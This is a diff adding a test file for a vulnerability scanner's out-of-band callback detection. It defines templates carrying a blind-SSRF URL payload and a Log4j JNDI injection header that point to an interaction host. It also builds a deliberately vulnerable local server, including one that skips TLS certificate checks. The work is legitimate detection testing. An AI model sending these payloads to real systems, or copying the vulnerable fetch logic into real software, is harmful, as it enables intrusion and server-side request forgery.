@@ -1,0 +1,289 @@
+"""End-to-end OOB (interactsh-style) active scanning.
+
+A deliberately vulnerable local server performs the out-of-band
+callback (HTTP fetch for the SSRF shape, DNS resolution for the
+log4j/JNDI shape) against the worker's own interaction listener;
+the templates must fire — and must NOT fire on a patched server.
+"""
+
+import re
+import socket
+import socketserver
+import struct
+import textwrap
+import threading
+import urllib.request
+
+import pytest
+import yaml
+
+from swarm_tpu.fingerprints.nuclei import parse_template
+from swarm_tpu.worker import active
+
+
+def T(doc: str, path="t/x.yaml"):
+    return parse_template(yaml.safe_load(textwrap.dedent(doc)), source_path=path)
+
+
+SSRF_TEMPLATE = """\
+id: demo-blind-ssrf
+info:
+  name: blind ssrf via url param
+  severity: medium
+requests:
+  - method: GET
+    path:
+      - "{{BaseURL}}/fetch?url=http://{{interactsh-url}}/"
+    matchers-condition: and
+    matchers:
+      - type: word
+        part: interactsh_protocol
+        words:
+          - "http"
+      - type: status
+        status:
+          - 200
+"""
+
+JNDI_TEMPLATE = """\
+id: demo-jndi-rce
+info:
+  name: jndi lookup via header
+  severity: critical
+requests:
+  - method: GET
+    path:
+      - "{{BaseURL}}/api"
+    headers:
+      X-Api-Version: "${jndi:ldap://{{interactsh-url}}/a}"
+    matchers:
+      - type: word
+        part: interactsh_protocol
+        words:
+          - "dns"
+"""
+
+PLAIN_TEMPLATE = """\
+id: demo-plain
+info:
+  name: plain body match
+  severity: info
+requests:
+  - method: GET
+    path:
+      - "{{BaseURL}}/"
+    matchers:
+      - type: word
+        words: ["vulnerable-test-service"]
+"""
+
+
+class _Srv(socketserver.ThreadingTCPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+
+
+def _dns_query_bytes(name: str) -> bytes:
+    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\x00" + struct.pack(">HH", 1, 1)
+
+
+def _resolve_via(dns_port: int, host: str) -> str:
+    """Resolve ``host`` through the listener's DNS (the delegated-NS
+    path an operator would configure); returns the answered A record."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    try:
+        s.sendto(_dns_query_bytes(host), ("127.0.0.1", dns_port))
+        reply, _ = s.recvfrom(512)
+    finally:
+        s.close()
+    return socket.inet_ntoa(reply[-4:])
+
+
+def _vulnerable_server(dns_port: int, http_port: int, vulnerable: bool = True):
+    """HTTP server that (when vulnerable) fetches url= params and
+    resolves ${jndi:ldap://host/...} hostnames out of band. The
+    delegated-domain flow is simulated faithfully: hostnames resolve
+    through the listener's DNS, and the follow-up HTTP fetch carries
+    the original hostname in the Host header (``http_port`` stands in
+    for the :80 a real delegation would use)."""
+
+    class Handler(socketserver.BaseRequestHandler):
+        def handle(self):
+            try:
+                data = self.request.recv(8192).decode("latin-1")
+            except OSError:
+                return
+            if vulnerable:
+                m = re.search(r"url=http://([^/\s]+)(/\S*)?", data)
+                if m:
+                    host, path = m.group(1), m.group(2) or "/"
+                    try:
+                        ip = _resolve_via(dns_port, host)
+                        req = urllib.request.Request(
+                            f"http://{ip}:{http_port}{path}",
+                            headers={"Host": host},
+                        )
+                        urllib.request.urlopen(req, timeout=3)
+                    except OSError:
+                        pass
+                m = re.search(r"\$\{jndi:ldap://([^/}]+)/", data)
+                if m:
+                    try:
+                        _resolve_via(dns_port, m.group(1))
+                    except OSError:
+                        pass
+            body = "vulnerable-test-service"
+            resp = (
+                "HTTP/1.1 200 OK\r\nServer: vuln\r\n"
+                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
+            )
+            try:
+                self.request.sendall(resp.encode())
+            except OSError:
+                pass
+
+    srv = _Srv(("127.0.0.1", 0), Handler)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    return srv
+
+
+def _scanner(templates, **oob_kw):
+    from swarm_tpu.ops.engine import MatchEngine
+
+    engine = MatchEngine(templates)
+    return active.ActiveScanner(
+        engine,
+        {
+            "read_timeout_ms": 4000,
+            "oob": {"domain": "oob.test", "poll_s": 0.3, **oob_kw},
+        },
+    )
+
+
+def test_oob_scan_end_to_end():
+    templates = [T(SSRF_TEMPLATE), T(JNDI_TEMPLATE), T(PLAIN_TEMPLATE)]
+    scanner = _scanner(templates)
+    try:
+        assert scanner.oob_listener is not None
+        assert scanner.oob_limited == []  # both oob templates planned
+        srv = _vulnerable_server(
+            scanner.oob_listener.dns_port, scanner.oob_listener.http_port
+        )
+        try:
+            port = srv.server_address[1]
+            hits, stats = scanner.run([f"127.0.0.1:{port}"])
+        finally:
+            srv.shutdown()
+        got = {h.template_id for h in hits}
+        assert got == {"demo-blind-ssrf", "demo-jndi-rce", "demo-plain"}
+        assert stats["oob_probes"] == 2
+        assert stats["oob_interactions"] >= 2
+    finally:
+        scanner.close()
+
+
+def test_oob_scan_patched_server_no_hits():
+    templates = [T(SSRF_TEMPLATE), T(JNDI_TEMPLATE), T(PLAIN_TEMPLATE)]
+    scanner = _scanner(templates)
+    try:
+        srv = _vulnerable_server(
+            scanner.oob_listener.dns_port,
+            scanner.oob_listener.http_port,
+            vulnerable=False,
+        )
+        try:
+            port = srv.server_address[1]
+            hits, stats = scanner.run([f"127.0.0.1:{port}"])
+        finally:
+            srv.shutdown()
+        got = {h.template_id for h in hits}
+        assert got == {"demo-plain"}  # no callback → no oob finding
+        assert stats["oob_probes"] == 2
+        assert stats["oob_interactions"] == 0
+    finally:
+        scanner.close()
+
+
+def test_oob_disabled_keeps_honest_skip():
+    from swarm_tpu.ops.engine import MatchEngine
+
+    templates = [T(SSRF_TEMPLATE), T(PLAIN_TEMPLATE)]
+    scanner = active.ActiveScanner(MatchEngine(templates), {})
+    assert scanner.oob_listener is None
+    assert scanner.oob_limited == ["demo-blind-ssrf"]
+    assert "oob-interactsh" in scanner.plan.skipped
+    scanner.close()
+
+
+@pytest.mark.skipif(
+    not __import__("pathlib")
+    .Path("/root/reference/worker/artifacts/templates")
+    .is_dir(),
+    reason="reference corpus absent",
+)
+def test_oob_reference_template_fires():
+    """The ACTUAL reference confluence-ssrf-sharelinks template fires
+    end-to-end against a locally simulated vulnerable Confluence."""
+    from pathlib import Path
+
+    from swarm_tpu.fingerprints import load_corpus
+    from swarm_tpu.ops.engine import MatchEngine
+
+    root = Path(
+        "/root/reference/worker/artifacts/templates/vulnerabilities/confluence"
+    )
+    templates, _ = load_corpus(root)
+    conf = [t for t in templates if t.id == "confluence-ssrf-sharelinks"]
+    assert conf
+
+    class Handler(socketserver.BaseRequestHandler):
+        def handle(self):
+            try:
+                data = self.request.recv(8192).decode("latin-1")
+            except OSError:
+                return
+            m = re.search(r"url=(\S+)", data)
+            if m and "/rest/sharelinks/1.0/link" in data:
+                try:
+                    # the template embeds https://{{interactsh-url}}/ —
+                    # a vulnerable fetcher that skips cert validation
+                    import ssl as _ssl
+
+                    urllib.request.urlopen(
+                        m.group(1),
+                        timeout=3,
+                        context=_ssl._create_unverified_context(),
+                    )
+                except OSError:
+                    pass
+            body = '{"faviconURL": "x", "domain": "y"}'
+            resp = (
+                "HTTP/1.1 200 OK\r\nServer: conf\r\n"
+                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
+            )
+            try:
+                self.request.sendall(resp.encode())
+            except OSError:
+                pass
+
+    engine = MatchEngine(conf)
+    scanner = active.ActiveScanner(
+        engine, {"read_timeout_ms": 4000, "oob": {"poll_s": 0.3}}
+    )
+    try:
+        srv = _Srv(("127.0.0.1", 0), Handler)
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+        try:
+            hits, stats = scanner.run(
+                [f"127.0.0.1:{srv.server_address[1]}"]
+            )
+        finally:
+            srv.shutdown()
+        assert {h.template_id for h in hits} == {"confluence-ssrf-sharelinks"}
+        assert stats["oob_interactions"] >= 1
+    finally:
+        scanner.close()
